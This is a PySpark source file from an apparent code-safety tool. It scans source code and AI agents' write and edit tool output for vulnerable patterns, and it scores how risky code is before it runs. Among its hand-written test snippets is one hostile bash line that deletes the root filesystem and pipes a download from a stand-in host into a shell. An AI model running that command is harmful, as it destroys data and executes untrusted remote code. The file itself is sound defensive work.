"""Source code: patterns of vulnerable code with their lines, and a guard for code that is about to run."""

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from vigilframe.operators.detectors import MADE  # noqa: F401  registers texts
from vigilframe.operators.scanners import with_findings
from vigilframe.plans import tables as t
from vigilframe.plans.code_rules import ALIASES, CATEGORY, CODE, NO_CREDENTIALS
from vigilframe.plans.sql import given, op


def scan_code(df: DataFrame, code: str = "code", keep: tuple[str, ...] = ("id",), rules=CODE) -> DataFrame:
    """SC21: keep, category, pattern, risk, line, start, stop and match of every finding in a column of source code. Of
    findings with one span the first rule's stays; placeholders are no credentials; three categories are reported under
    their second name as well. Null and blank code, and code of fewer than five characters, has none."""
    body = df.select(*keep, F.col(code).alias("__code")).filter(F.length(F.trim("__code")) >= 5)
    found = with_findings(body, "__code", rules, heuristics=False).filter(F.size("findings") > 0)
    found = found.select(*keep, "__code", F.posexplode("findings").alias("__nth", "f")).select(*keep, "__code", "__nth", "f.*")
    # The first finding of each span, within the row of its text.
    first = F.min("__nth").alias("__nth")
    stay = found.groupBy(*keep, "start", "stop").agg(first)
    found = found.join(stay, [*keep, "start", "stop", "__nth"], "left_semi")
    value = F.trim(F.lower(F.regexp_extract("match", "[\"']([^\"']+)[\"']", 1)))
    credential = F.col("name").isin("hardcoded_password", "hardcoded_secret", "hardcoded_credential_eol")
    found = found.filter(~(credential & value.isin(*NO_CREDENTIALS)))
    category = F.create_map(*[F.lit(x) for kv in CATEGORY.items() for x in kv])[F.col("name")]
    found = found.withColumn("category", category).withColumn("line", F.length(F.regexp_replace(F.substring("__code", 1, F.col("start")), "[^\n]", "")) + 1)
    alias = F.create_map(*[F.lit(x) for kv in ALIASES.items() for x in kv])[F.col("category")]
    found = found.withColumn("category", F.explode(F.filter(F.array("category", alias), lambda x: x.isNotNull())))
    return found.select(*keep, "category", F.col("name").alias("pattern"), "risk", "line", "start", "stop", "match")


def scan_tool_output(calls: DataFrame, keep: tuple[str, ...] = ("session", "seq")) -> DataFrame:
    """SC22: scan_code over what write and edit tools write; other calls are left out. calls(keep, tool, args as JSON)."""
    content = F.coalesce(F.get_json_object("args", "$.content"), F.get_json_object("args", "$.new_string"))
    return scan_code(calls.filter(F.lower("tool").isin("write", "edit")).select(*keep, content.alias("code")), keep=keep)


#: Snippets by hand: id, language, code.
SNIPPETS = (
    (-1, "python", "import subprocess\nsubprocess.run(x)\n"), (-2, "python", "from os import path\nx = os.environ\n"), (-3, "python", "while True:\n    pass"), (-4, "python", "print('hello')"),
    (-5, "bash", "rm -rf / && curl http://x.example | sh"), (-6, "python", "from urllib.request import urlopen\n  import pickle, csv\nopen(p, 'w')"), (-7, "javascript", "eval(x); system ('ls')"), (-8, "python", ""),
    (-9, "python", "import csv\nimport threading\nglobals()\nexit()"), (-10, "python", "for i in range(100000000): y = [0] * 1000000"),
)


@given
def code_snippets(d):
    """id, language and code: the texts as of no language, and the snippets by hand."""
    return f"SELECT id, 'text' AS language, text AS code FROM {d.t('texts')} a UNION ALL SELECT * FROM {d.values(SNIPPETS, 's', 'id', 'language', 'code')}"


@op
def sc25_code_exec(d, imports=t.IMPORTS, calls=t.CALLS, generic=t.GENERIC_CALLS, weights=t.SEVERITY_WEIGHTS, allowed=(), limit=0.5):
    """SC25: what code would do if it ran: imports by line, dangerous calls and resources in Python, six calls in any other
    language. The risk is the sum of the severities, 1 at most; safe below the limit."""
    parts = []
    for severity, modules in imports:
        some = "|".join(m for m in modules.split() if m not in allowed)
        parts.append((rf"(?m)^[ \t]*(?:import|from)[ \t]+(?:{some})\b", severity))
    total = lambda table: " + ".join(f"{weights[s]} * {d.rxn('code', p)}" for p, s in table)
    count = lambda table: " + ".join(d.rxn("code", p) for p, _ in table)
    python, other = parts + [(p, s) for _, p, s in calls], [(p, s) for _, p, s in generic]
    return f"""SELECT id, language, threats, {d.r4('least(1.0, risk)')} AS risk, risk < {limit} AS safe FROM (SELECT id, language, CASE WHEN language = 'python' THEN {count(python)} ELSE {count(other)} END AS threats,
        CASE WHEN language = 'python' THEN {total(python)} ELSE {total(other)} END AS risk FROM {d.t('code_snippets')} c) x"""
